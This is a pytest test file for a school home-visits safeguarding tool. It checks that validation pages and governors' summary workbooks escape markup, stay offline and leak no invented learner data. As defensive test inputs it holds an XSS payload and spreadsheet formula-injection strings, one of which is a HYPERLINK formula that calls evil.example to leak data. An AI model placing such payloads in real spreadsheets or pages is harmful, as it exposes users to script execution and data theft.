"""The validation page and the governors' summary: real workbooks in, real HTML and .xlsx out, and a real
browser (headless Chromium) to check they render, stay offline and filter."""

from __future__ import annotations

import datetime as dt
import re
import sys
import zipfile
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from homevisits.errors import HomevisitsError
from homevisits.findings import Finding, Report
from homevisits.policy import load_policy
from homevisits.reports import PAGE_VISITS, validation_page
from homevisits.schema import find_header_row, load_schema, map_headers
from homevisits.sources import excel
from homevisits.summary import academic_year, build_summary, reason_group
from homevisits.summary_files import report_stem, summary_page, write_report
from homevisits.timings import Timings
from homevisits.visits import build_visits

sys.path.insert(0, str(Path(__file__).parent))
import browser

LONDON = ZoneInfo("Europe/London")
NOW = dt.datetime(2026, 11, 23, 9, 0, tzinfo=LONDON)
OMG = load_policy("omg_education").timings  # the summaries below judge forms and returns as OMG does
XSS = "<img src=x onerror=alert(1)>"

# Distinctive invented personal data: none of it may reach the governors' summary.
LEARNER = "Zebedee Quillfeather"
PARENT = "Ottoline Marchbanks"
LEARNER_PHONE = "07700 900417"
PARENT_PHONE = "0113 496 0712"
ADDRESS = "17 Wisteria Crescent"
POSTCODE = "B23 6XX"
PERSONAL = (
    LEARNER,
    PARENT,
    LEARNER_PHONE,
    PARENT_PHONE,
    "07700900417",
    "01134960712",
    ADDRESS,
    POSTCODE,
    "Quillfeather",
)

HEADERS = [
    "Visit ID", "Learner name", "Learner ID", "Learner phone", "Parent/carer name", "Parent/carer phone",
    "Address", "Postcode", "Reason for visit", "Visit date", "Start time", "Expected return", "Lead staff",
    "Second staff", "Phone taken on visit", "Risk level", "Form sent at", "Status", "Returned safely at",
    "Escalated at", "Outcome", "Safeguarding concern",
]  # fmt: skip


def visit_row(
    visit_id, reason, day, start, back, lead, second, risk, sent, status, returned, escalated, concern="NO"
):
    return [
        visit_id, LEARNER, f"L{visit_id[-3:]}", LEARNER_PHONE, PARENT, PARENT_PHONE, ADDRESS, POSTCODE, reason,
        day, start, back, lead, second, "07700 900123", risk, sent, status, returned, escalated,
        f"Spoke with {PARENT} about {LEARNER}", concern,
    ]  # fmt: skip


ROWS = [  # sheet rows 3..11 (a title row, then the header in row 2)
    visit_row("HV-001", "Attendance concerns", "14/09/2026", "10:00", "11:00", "Amira Khan", None, "LOW",
              "12/09/2026 09:00", "Completed", "14/09/2026 11:10", None, "YES"),
    visit_row("HV-002", "Safe and well check", "21/09/2026", "14:00", "15:00", "Amira Khan", "Ben Okafor",
              "MEDIUM", "21/09/2026 08:00", "Completed", "21/09/2026 15:50", None),
    visit_row("HV-003", "welfare check", "05/10/2026", "10:00", "11:00", "Ben Okafor", None, "LOW", None,
              "Cancelled", None, None),
    visit_row("HV-004", "Parent meeting about the EHCP", "12/10/2026", "13:00", "14:00", "Chidi Eze", None,
              "HIGH", None, "Planned", None, None),
    visit_row("HV-005", "Dropping off work pack", "22/11/2026", "16:00", "17:00", "Chidi Eze", None, "LOW",
              "20/11/2026 10:00", "Planned", None, "22/11/2026 17:35"),
    visit_row("HV-006", f"Attendance - {LEARNER} refusing school", "23/11/2026", "08:00", "08:20", "Chidi Eze",
              None, "LOW", None, "Planned", None, None),
    visit_row("HV-007", None, "30/11/2026", "10:00", "11:00", "chidi  eze", None, "MEDIUM", None, "Planned",
              None, None),
    visit_row("HV-008", "Attendance", "15/09/2025", "10:00", "11:00", "Amira Khan", None, "LOW",
              "01/09/2025 10:00", "Completed", "15/09/2025 11:00", None),
    visit_row("HV-009", "Attendance", "31/02/2026", "10:00", "11:00", "Amira Khan", None, "LOW", None,
              "Planned", None, None),
]  # fmt: skip


def write_log(path: Path, rows=ROWS, every_column: bool = False) -> Path:
    """The test log; ``every_column`` adds the catalogue's other columns (empty) so any policy can run."""
    from openpyxl import Workbook

    extra = [c.header for c in load_schema().columns if c.header not in HEADERS] if every_column else []
    book = Workbook()
    sheet = book.active
    sheet.title = "Home Visits"
    sheet.append(["Home visits log 2026-27"])
    sheet.append(HEADERS + extra)
    for row in rows:
        sheet.append(row + [None] * len(extra))
    book.save(path)
    return path


def load_visits(path: Path):
    raw = excel.read(path)
    schema = load_schema()
    position = find_header_row(raw.rows, schema)
    mapping = map_headers(raw.rows[position], schema)
    return build_visits(raw, schema, mapping, position, LONDON)


@pytest.fixture()
def visits(tmp_path):
    return load_visits(write_log(tmp_path / "log.xlsx"))


def finding(
    rule,
    severity,
    row,
    visit_id,
    message="Something is wrong.",
    column=None,
    clause="OMG Education §6",
    field=None,
):
    """A finding as the rules make it (``field``: the schema field it is about, e.g. returned_at)."""
    return Finding(rule, severity, row, visit_id, column, message, "Do the right thing.", clause, field=field)


FINDINGS = [
    finding("HV009", "error", 4, "HV-002", "The form was sent late."),
    finding("HV009", "error", 8, "HV-006", "The form has not been sent."),
    finding("HV003", "error", 6, "HV-004", "HIGH risk visit planned.", clause="OMG Education §7"),
    finding(
        "HV022",
        "alert",
        8,
        "HV-006",
        "Chidi Eze (phone 07700 900123) was due back and has not confirmed.",
        field="returned_at",
    ),
    finding("HV023", "warning", 4, "HV-002", "Safe return confirmed late."),
    finding("HV009", "info", 9, "HV-007", "The form is due by Sun 29 Nov 2026 10:00."),
    finding("HV019", "error", 10, "HV-008", "Out of the period."),
    finding("HV001", "error", None, None, "A sheet-wide problem."),
]
TITLES = {"HV003": "High-risk visit", "HV009": "Form not sent on time", "HV022": "Safe return not confirmed"}


# ---------------------------------------------------------------- the validation page


def make_report(findings=FINDINGS, source="log.xlsx (Home Visits)") -> Report:
    return Report(
        source=source, policy="OMG Education", checked_at=NOW.isoformat(), rows=9, findings=findings
    )


def test_validation_page_counts_alerts_first_and_groups_by_visit(visits):
    html = validation_page(make_report(), visits=visits, rule_titles=TITLES)
    cards = re.findall(r'class="card (\w+)[^"]*" data-severity="\w+"[^>]*>\s*<span class="count">(\d+)', html)
    assert cards == [("alert", "1"), ("error", "5"), ("warning", "1"), ("info", "1")]
    assert "1 alert: someone may be in danger now." in html
    headings = re.findall(r"<h3>(.*?)</h3>", html)
    assert headings[0] == 'Row 8 <span class="sep">·</span> <span class="vid">HV-006</span>'  # the alert
    assert headings[1] == "Whole sheet"
    assert [h.split('<span class="vid">')[1][:6] for h in headings[2:]] == [
        "HV-002",
        "HV-004",
        "HV-008",
        "HV-007",
    ]
    group = html.split('<span class="vid">HV-006</span>')[1].split("</section>")[0]
    assert group.index("Safe return not confirmed") < group.index("Form not sent on time")  # worst first
    assert "OMG Education §6" in group and "Do the right thing." in group
    assert "Mon 23 Nov 2026, 08:00 · Lead: Chidi Eze · Planned · Risk LOW" in group
    assert "Monday 23 November 2026 at 09:00" in html


def test_validation_page_lists_the_worst_visits_when_there_are_very_many():
    many = [finding("HV021", "error", row, f"HV-{row}", "No outcome.") for row in range(2, 702)]
    many += [
        finding("HV022", "alert", 900, "HV-900", "Not back."),
        finding("HV027", "warning", 901, "HV-901"),
    ]
    html = validation_page(make_report(findings=many), rule_titles=TITLES)
    listed = re.findall(r"<h3>Row (\d+)", html)
    assert len(listed) == PAGE_VISITS and listed[0] == "900"  # the alert first
    assert "901" not in listed  # warnings after all the errors: not listed
    hidden = len(many) - PAGE_VISITS
    assert f"{hidden:,} more findings on {hidden:,} other visits are counted above but not listed" in html
    assert re.findall(r'data-severity="error"[^>]*>\s*<span class="count">(\d+)', html) == ["700"]


def test_validation_page_titles_fall_back_to_the_rule_id():
    html = validation_page(make_report([finding("HV019", "error", 4, "HV-002")]))
    assert '<div class="rule">HV019</div>' in html
    assert '<option value="HV019">HV019: 1</option>' in html
    titled = validation_page(
        make_report([finding("HV019", "error", 4, "HV-002")]), rule_titles={"HV019": "Same ID"}
    )
    assert '<div class="rule">Same ID <span class="rule-id">HV019</span></div>' in titled


def test_validation_page_shows_markup_as_text(visits):
    evil = Finding("HV002", "error", 3, XSS, XSS, XSS, XSS, XSS)
    html = validation_page(make_report([evil], source=XSS), visits=visits, rule_titles={"HV002": XSS})
    assert "<img" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_validation_page_holds_no_learner_details(visits):
    html = validation_page(make_report(), visits=visits, rule_titles=TITLES)
    for text in PERSONAL:
        assert text not in html


def test_validation_page_is_self_contained():
    html = validation_page(make_report(), rule_titles=TITLES)
    assert not re.search(r"(?:src|href|action)\s*=\s*(?![\"']?(?:data:|#))", html, re.I)
    assert "@import" not in html and "url(" not in html
    assert "default-src 'none'" in html
    assert "@media print" in html


def test_validation_page_without_findings_says_so():
    html = validation_page(make_report([]))
    assert "Nothing to fix." in html
    assert 'class="finding"' not in html


# ---------------------------------------------------------------- the governors' summary


def test_academic_year_runs_september_to_august():
    assert academic_year(dt.date(2026, 11, 23)) == (dt.date(2026, 9, 1), dt.date(2027, 8, 31))
    assert academic_year(dt.date(2027, 8, 31)) == (dt.date(2026, 9, 1), dt.date(2027, 8, 31))
    assert academic_year(dt.date(2026, 9, 1)) == (dt.date(2026, 9, 1), dt.date(2027, 8, 31))


def test_summary_tables_for_the_academic_year(visits):
    summary = build_summary(
        visits, FINDINGS, now=NOW, timings=OMG, rule_titles=TITLES, policy="OMG Education"
    )
    assert (summary.start, summary.end) == (dt.date(2026, 9, 1), dt.date(2027, 8, 31))
    assert summary.visits == 7  # HV-008 is last year's, HV-009's date is unreadable
    assert summary.undated == 1
    months = summary.table("by_month").rows
    assert months[:4] == (("Sep 2026", 2, 2), ("Oct 2026", 2, 0), ("Nov 2026", 3, 0), ("Dec 2026", 0, 0))
    assert len(months) == 12 and months[-1] == ("Aug 2027", 0, 0)
    assert _counts(summary, "by_reason") == {
        "Attendance": 2,
        "Safe and well check": 2,
        "Special educational needs": 1,
        "Work drop-off or collection": 1,
        "Not recorded": 1,
    }
    assert _counts(summary, "by_risk") == {"LOW": 4, "MEDIUM": 2, "HIGH": 1}
    assert _counts(summary, "by_outcome") == {
        "Planned": 4, "Completed": 2, "No answer": 0, "Cancelled": 1, "Not carried out": 0,
    }  # fmt: skip
    assert _counts(summary, "forms_on_time") == {"On time": 2, "Late": 1, "Not sent": 1}
    assert summary.table("forms_on_time").rows[0][2] == pytest.approx(0.5)
    assert _counts(summary, "safe_returns") == {
        "Confirmed on time": 1,
        "Confirmed late": 1,
        "Not confirmed": 3,
    }
    assert dict(summary.table("alerts").rows) == {
        "Line manager alerted (Escalated at filled)": 1,
        "Safe return still unconfirmed at this check": 1,
        "Visits with an alert": 2,
    }
    assert summary.table("breaches").rows == (
        ("HV009", "Form not sent on time", 0, 2, 2),
        ("HV003", "High-risk visit", 0, 1, 1),
        ("HV022", "Safe return not confirmed", 1, 0, 1),
    )
    assert summary.table("by_staff").rows == (
        ("Chidi Eze", 4, 0, 0),
        ("Amira Khan", 2, 0, 2),
        ("Ben Okafor", 1, 1, 0),
    )
    figures = {f.label: (f.value, f.note) for f in summary.figures}
    assert figures["Forms on time"] == ("50%", "2 of 4")
    assert figures["Safe returns on time"] == ("20%", "1 of 5")
    assert figures["Alerts raised"][0] == "2"
    assert figures["Policy breaches"][0] == "4"
    assert figures["Safeguarding concerns"][0] == "1"


def _counts(summary, key):
    return {row[0]: row[1] for row in summary.table(key).rows}


def test_summary_deadline_and_grace_are_parameters(visits):
    summary = build_summary(visits, [], now=NOW, timings=Timings(form_deadline_hours=0, grace_minutes=60))
    assert _counts(summary, "forms_on_time") == {"On time": 3, "Late": 0, "Not sent": 1}
    assert _counts(summary, "safe_returns") == {
        "Confirmed on time": 2,
        "Confirmed late": 0,
        "Not confirmed": 2,
    }


def test_summary_over_a_chosen_period(visits):
    summary = build_summary(
        visits,
        FINDINGS,
        start=dt.date(2025, 9, 1),
        end=dt.date(2025, 9, 30),
        now=NOW,
        timings=OMG,
    )
    assert summary.visits == 1
    assert summary.table("by_month").rows == (("Sep 2025", 1, 1),)
    assert summary.table("breaches").rows == (("HV019", "HV019", 0, 1, 1),)
    with pytest.raises(HomevisitsError, match="ends"):
        build_summary(visits, [], start=dt.date(2026, 9, 1), end=dt.date(2026, 8, 1), now=NOW, timings=OMG)


def test_reasons_become_categories_never_text():
    assert reason_group("Safe & well check") == "Safe and well check"
    assert reason_group("CP concern raised by DSL") == "Safeguarding"
    assert reason_group("persistent absence") == "Attendance"
    assert reason_group("SEN review") == "Special educational needs"
    assert reason_group("Sending work home") == "Work drop-off or collection"  # "send" alone is SEND
    assert reason_group("Bring back library books") == "Other"
    assert reason_group("  ") == "Not recorded"


def test_write_report_files_hold_aggregates_only(visits, tmp_path):
    summary = build_summary(
        visits, FINDINGS, now=NOW, timings=OMG, rule_titles=TITLES, policy="OMG Education"
    )
    html_path, xlsx_path = write_report(summary, tmp_path / "out")
    assert html_path.name == "governors-summary-2026-09-01-to-2027-08-31.html"
    assert xlsx_path.name == "governors-summary-2026-09-01-to-2027-08-31.xlsx"
    assert report_stem(summary) == "governors-summary-2026-09-01-to-2027-08-31"
    html = html_path.read_text(encoding="utf-8")
    with zipfile.ZipFile(xlsx_path) as archive:
        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    for text in PERSONAL:
        assert text not in html, text
        for name, part in parts.items():
            assert text not in part, (text, name)
    assert "Home visits: summary for governors" in html
    assert html.count("data:image/png;base64,") >= 7


def test_workbook_has_the_same_tables(visits, tmp_path):
    from openpyxl import load_workbook

    summary = build_summary(visits, FINDINGS, now=NOW, timings=OMG, rule_titles=TITLES)
    _, xlsx_path = write_report(summary, tmp_path)
    book = load_workbook(xlsx_path)
    assert book.sheetnames == ["Summary", *(t.sheet for t in summary.tables)]
    for table in summary.tables:
        sheet = book[table.sheet]
        values = list(sheet.iter_rows(values_only=True))
        assert values[0] == table.columns
        assert [tuple(v) for v in values[1 : 1 + len(table.rows)]] == [tuple(r) for r in table.rows]
    forms = book["Forms on time"]
    assert forms["C2"].number_format == "0%"
    assert book["Summary"]["B2"].value == "2026-09-01 to 2027-08-31"


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?leak","Pat")',
        "+SUM(1,1)",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\uff1d1+1",  # a full-width equals sign
        "Pat\x01 Lee",  # Excel's _x0001_: openpyxl refuses it, so report used to stop
        "Pat \ud800Lee",  # a lone surrogate
    ],
)
def test_the_summary_workbook_holds_no_formula_and_never_stops_on_a_name(visits, tmp_path, name):
    from openpyxl import load_workbook
    from python_calamine import CalamineWorkbook

    from homevisits.formula_guard import is_formula_like, text_cell

    visits.frame.loc[0, "lead_staff"] = name
    visits.frame.loc[1, "second_staff"] = name
    summary = build_summary(visits, [], now=NOW, timings=OMG)
    _, xlsx_path = write_report(summary, tmp_path)
    with zipfile.ZipFile(xlsx_path) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(rb"<(?:\w+:)?f[\s>]", part) for part in sheets)
    expected = [text_cell(row[0])[0] for row in summary.table("by_staff").rows]
    assert text_cell(name)[0].strip() in [n.strip() for n in expected]  # the odd name is in the table
    staff = load_workbook(xlsx_path)["By member of staff"]
    cells = [c for (c,) in staff.iter_rows(min_row=2, max_col=1, max_row=1 + len(expected))]
    assert [c.value for c in cells] == expected  # shown as typed, no apostrophe added, nothing run
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix == is_formula_like(cell.value)
    assert any(c.quotePrefix for c in cells) == any(is_formula_like(n) for n in expected)
    calamine = CalamineWorkbook.from_path(str(xlsx_path)).get_sheet_by_name("By member of staff").to_python()
    assert [row[0] for row in calamine[1 : 1 + len(expected)]] == expected


def test_summary_page_survives_odd_staff_names(visits):
    visits.frame.loc[0, "lead_staff"] = "Pat $\\frac{$ <b>Lee</b>"
    html = summary_page(build_summary(visits, [], now=NOW, timings=OMG))
    assert "Pat $\\frac{$ &lt;b&gt;Lee&lt;/b&gt;" in html and "<b>" not in html


def test_summary_page_is_self_contained(visits):
    html = summary_page(build_summary(visits, FINDINGS, now=NOW, timings=OMG))
    assert not re.search(r"(?:src|href)\s*=\s*(?![\"']?(?:data:|#))", html, re.I)
    assert "<script" not in html
    assert "1 row of the log had no readable visit date" in html


def test_summary_from_the_real_rules(visits):
    from homevisits.policy import check, load_policy
    from homevisits.rules import rule_titles

    policy = load_policy("omg_education")
    findings = check(visits, policy, NOW)
    summary = build_summary(
        visits, findings, now=NOW, timings=OMG, rule_titles=rule_titles(), policy=policy.name
    )
    breaches = {row[0]: row for row in summary.table("breaches").rows}
    assert breaches["HV022"][2:] == (2, 1, 3)  # HV-005 and HV-006 overdue now; HV-004 long ago
    assert dict(summary.table("alerts").rows)["Visits with an alert"] == 2
    assert "HV003" in breaches  # HV-004 is HIGH risk
    assert all(row[1] != row[0] for row in breaches.values())  # every rule has a plain-English title
    html = validation_page(make_report(findings), visits=visits, rule_titles=rule_titles())
    assert "Safe return not confirmed" in html


# ---------------------------------------------------------------- the commands


@pytest.fixture()
def full_log(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("HOMEVISITS_CONFIG", raising=False)
    return write_log(tmp_path / "log.xlsx", every_column=True)


def run(*argv: str) -> int:
    from homevisits.cli import main

    return main([*argv, "--policy", "omg_education", "--now", "2026-11-23T09:00"])


def test_report_command_writes_the_page_and_the_workbook(full_log, tmp_path, capsys):
    assert run("report", "--source", str(full_log), "--out", "out") == 0
    names = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert names == [
        "governors-summary-2026-09-01-to-2027-08-31.html",
        "governors-summary-2026-09-01-to-2027-08-31.xlsx",
    ]
    assert "Wrote out/governors-summary-2026-09-01-to-2027-08-31.html" in capsys.readouterr().err
    html = (tmp_path / "out" / names[0]).read_text(encoding="utf-8")
    assert "OMG Education policy" in html and "Safe return not confirmed" in html
    for text in PERSONAL:
        assert text not in html

    assert run("report", "--source", str(full_log), "--from", "1/9/2025", "--to", "2026-08-31") == 0
    assert (tmp_path / "state" / "reports" / "governors-summary-2025-09-01-to-2026-08-31.xlsx").exists()


def test_report_command_refuses_a_date_it_cannot_read(full_log, capsys):
    assert run("report", "--source", str(full_log), "--from", "01/13/2026") == 2
    assert "--from '01/13/2026' is not a date" in capsys.readouterr().err
    assert run("report", "--source", str(full_log), "--from", "2026-09-01", "--to", "2026-08-01") == 2
    assert "ends (2026-08-01) before it starts (2026-09-01)" in capsys.readouterr().err


def test_validate_command_writes_the_page(full_log, tmp_path):
    assert run("validate", "--source", str(full_log), "--format", "html", "--output", "check.html") == 1
    html = (tmp_path / "check.html").read_text(encoding="utf-8")
    assert "Safe return not confirmed" in html and 'data-rule="HV022"' in html


# ---------------------------------------------------------------- in a real browser

needs_chromium = pytest.mark.skipif(
    browser.find_chromium() is None,
    reason="Chromium is not installed (apt-get install chromium; .ci/run does)",
)


def visible_rows(page) -> list[str]:
    return page.evaluate(
        "Array.from(document.querySelectorAll('tr.finding')).filter(r => r.offsetParent !== null)"
        ".map(r => r.dataset.severity + ':' + r.dataset.rule)"
    )


def assert_offline_and_clean(page, path: Path) -> None:
    assert page.console_errors == []
    assert [u for u in page.requests if not u.startswith("data:")] == [path.resolve().as_uri()]


def assert_not_blank(png: Path, min_height: int) -> None:
    from PIL import Image

    with Image.open(png) as image:
        assert image.width >= 1000 and image.height >= min_height
        colours = image.convert("RGB").getcolors(maxcolors=1 << 20)
        assert colours is not None and len(colours) > 50  # text, cards, badges: not a blank page


@pytest.mark.browser
@needs_chromium
def test_validation_page_in_chromium(visits, tmp_path):
    findings = [
        *FINDINGS,
        finding("HV002", "error", 5, "HV-003", f"Unreadable cell: {XSS}", column="Visit date"),
    ]
    path = tmp_path / "validation.html"
    path.write_text(
        validation_page(make_report(findings), visits=visits, rule_titles=TITLES), encoding="utf-8"
    )
    with browser.opened(path) as page:
        assert_offline_and_clean(page, path)
        assert_not_blank(page.screenshot(tmp_path / "validation.png"), 600)
        assert len(visible_rows(page)) == 9
        assert page.evaluate("document.querySelector('.filters').hidden") is False

        page.click('.card[data-severity="error"]')
        assert set(visible_rows(page)) == {
            "error:HV009",
            "error:HV003",
            "error:HV019",
            "error:HV001",
            "error:HV002",
        }
        assert len(visible_rows(page)) == 6
        assert page.evaluate("document.getElementById('showing').textContent") == "Showing 6 of 9 findings"
        hidden_groups = page.evaluate("document.querySelectorAll('[data-visit][hidden]').length")
        assert hidden_groups == 1  # HV-007 has only an info finding

        page.click('.card[data-severity="error"]')  # a second click shows everything again
        assert len(visible_rows(page)) == 9

        page.select("#rule-filter", "HV009")
        assert visible_rows(page) == ["error:HV009", "error:HV009", "info:HV009"]
        page.click('.card[data-severity="info"]')
        assert visible_rows(page) == ["info:HV009"]
        page.click("#show-all")
        assert len(visible_rows(page)) == 9

        assert page.evaluate("document.querySelectorAll('img').length") == 0
        shown = page.evaluate("document.body.innerText")
        assert f"Unreadable cell: {XSS}" in shown
        assert page.console_errors == []

        page.call("Emulation.setEmulatedMedia", media="print")
        assert page.evaluate("getComputedStyle(document.querySelector('.filters')).display") == "none"
        assert page.print_pdf(tmp_path / "validation.pdf").read_bytes().startswith(b"%PDF")


@pytest.mark.browser
@needs_chromium
def test_summary_page_in_chromium(visits, tmp_path):
    summary = build_summary(
        visits, FINDINGS, now=NOW, timings=OMG, rule_titles=TITLES, policy="OMG Education"
    )
    html_path, _ = write_report(summary, tmp_path)
    with browser.opened(html_path) as page:
        assert_offline_and_clean(page, html_path)
        assert_not_blank(page.screenshot(tmp_path / "summary.png"), 1500)
        charts = page.evaluate("Array.from(document.images).map(i => i.complete && i.naturalWidth > 300)")
        assert len(charts) >= 7 and all(charts)
        text = page.evaluate("document.body.innerText")
        assert "Visits per member of staff" in text and "Chidi Eze" in text
        assert LEARNER not in text


@pytest.mark.parametrize("returned", ["back soon", "21/09/2026 13:30", "23:59"])
def test_a_return_the_alert_cannot_read_is_not_confirmed_in_the_report_either(tmp_path, returned):
    """The report judges returns with the alert's own reading (safe_return): a return in words, one
    before the start, or one still to come is no safe return, and counts as Not confirmed."""
    from homevisits.safe_return import overdue

    row = visit_row("HV-010", "Attendance", "21/09/2026", "14:00", "15:00", "Amira Khan", None, "LOW",
                    "20/09/2026 08:00", "Completed", returned, None)  # fmt: skip
    table = load_visits(write_log(tmp_path / "log.xlsx", rows=[row]))
    now = dt.datetime(2026, 9, 21, 16, 0, tzinfo=LONDON)
    assert not overdue(table, OMG, now).back.confirmed[0]  # the alert's view
    summary = build_summary(table, [], now=now, timings=OMG, policy="OMG Education")
    assert _counts(summary, "safe_returns") == {
        "Confirmed on time": 0,
        "Confirmed late": 0,
        "Not confirmed": 1,
    }
